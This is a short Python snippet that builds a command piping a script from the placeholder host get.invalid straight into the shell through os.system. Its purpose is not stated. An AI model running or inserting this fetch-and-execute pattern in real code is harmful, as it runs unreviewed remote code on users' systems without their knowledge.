import os

INSTALLER = "https://get.invalid/agent"
os.system("curl -fsSL " + INSTALLER + " | sh")
